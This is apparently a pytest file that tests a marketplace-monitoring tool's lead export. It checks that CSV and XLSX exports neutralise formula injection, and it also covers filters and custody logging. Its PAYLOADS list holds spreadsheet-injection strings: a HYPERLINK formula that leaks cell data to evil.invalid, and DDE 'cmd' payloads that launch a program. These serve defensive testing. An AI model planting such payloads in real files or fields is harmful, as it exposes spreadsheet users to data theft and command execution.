"""`monitor export leads`: one row per listing, formula payloads neutralised in CSV and XLSX (read
back with openpyxl), a usable workbook, filters, and an export entry in the custody log."""

from __future__ import annotations

import csv
import io
import json

import pytest

from monitor.scoring.score import engine_for, score_keys
from monitor.rules.packs import load_packs
from monitor.store import open_db, save_listings
from tests.conftest import ROOT, run_monitor
from tests.test_relisting import confirm

PAYLOADS = ['=HYPERLINK("http://evil.invalid/?x="&A1,"click")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


@pytest.fixture
def store(tmp_path):
    path = tmp_path / "m.db"
    db = open_db(path)
    items = []
    for i, payload in enumerate(PAYLOADS):
        items.append({"site": "shopa" if i % 2 else "shopb", "listing_id": f"X{i}", "url": f"https://shop.example/{i}",
                      "title": payload, "brand": "B0SCH", "description": "B0SCH brake pads 高仿 replica",
                      "category": "auto_parts", "price": -5.0 if i == 2 else 30.0 + i, "currency": "CNY",
                      "seller_id": payload, "seller_name": payload, "observed_at": "2026-11-01T08:00:00Z"})
    save_listings(db, items, source="import")
    score_keys(db, engine_for(db, load_packs(ROOT / "rules")), [(i["site"], i["listing_id"]) for i in items])
    ids = [r[0] for r in db.execute("SELECT l.id FROM listings l JOIN flags f ON f.listing = l.id ORDER BY l.id")]
    assert len(ids) == len(PAYLOADS), "every payload listing should be flagged (B0SCH + replica terms)"
    for pk in ids[:4]:
        confirm(db, pk)
    db.close()
    return path


def test_csv_neutralises_formulas_and_has_every_lead(store, tmp_path):
    out = tmp_path / "leads.csv"
    proc = run_monitor("export", "leads", "--format", "csv", "-o", str(out), db_path=store, check=True)
    assert "4 leads written" in proc.stderr
    rows = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8"))))
    assert len(rows) == 4 and {r["verdict"] for r in rows} == {"confirmed_counterfeit"} and rows[0]["analyst"] == "ana"
    for row in rows:
        for column in ("title", "seller_id", "seller_name"):
            assert row[column].startswith("'") and row[column][1:] in PAYLOADS, (column, row[column])
    assert {r["price"] for r in rows} >= {"-5.0"}  # numbers are not text: not prefixed
    assert all(r["url"].startswith("https://shop.example/") for r in rows)


def test_xlsx_cells_are_strings_never_formulas(store, tmp_path):
    from openpyxl import load_workbook

    out = tmp_path / "leads.xlsx"
    run_monitor("export", "leads", "--status", "all", "--format", "xlsx", "-o", str(out), db_path=store, check=True)
    wb = load_workbook(out)
    ws = wb.active
    header = [c.value for c in ws[1]]
    assert header[:3] == ["site", "url", "title"] and ws.freeze_panes == "A2"
    assert ws.auto_filter.ref == f"A1:{ws.cell(1, len(header)).column_letter}{ws.max_row}"
    assert ws.max_row == len(PAYLOADS) + 1
    title_col, url_col, price_col = header.index("title") + 1, header.index("url") + 1, header.index("price") + 1
    for r in range(2, ws.max_row + 1):
        cell = ws.cell(r, title_col)
        assert cell.data_type == "s" and cell.value.startswith("'") and cell.value[1:] in PAYLOADS
        assert ws.cell(r, url_col).hyperlink.target.startswith("https://shop.example/")
        assert isinstance(ws.cell(r, price_col).value, (int, float))  # a number, not text
    # no formula anywhere in the sheet
    assert not [c.coordinate for row in ws.iter_rows() for c in row if c.data_type == "f"]


def test_json_filters_and_custody(store, tmp_path):
    proc = run_monitor("export", "leads", "--status", "open", "--site", "shopa", "--format", "json",
                       db_path=store, check=True)
    rows = json.loads(proc.stdout)
    assert rows and all(r["site"] == "shopa" and r["flag_status"] == "open" for r in rows)
    assert rows[0]["title"] in PAYLOADS  # JSON is data: kept exactly
    bad = run_monitor("export", "leads", "--since", "yesterday", db_path=store)
    assert bad.returncode == 2 and "YYYY-MM-DD" in bad.stderr
    assert run_monitor("export", "leads", "--format", "xlsx", db_path=store).returncode == 2
    db = open_db(store)
    exports = list(db.execute_returning_dicts("SELECT * FROM custody WHERE action = 'export'"))
    db.close()
    assert exports and json.loads(exports[-1]["detail"])["rows"] == len(rows) and len(exports[-1]["sha256"]) == 64
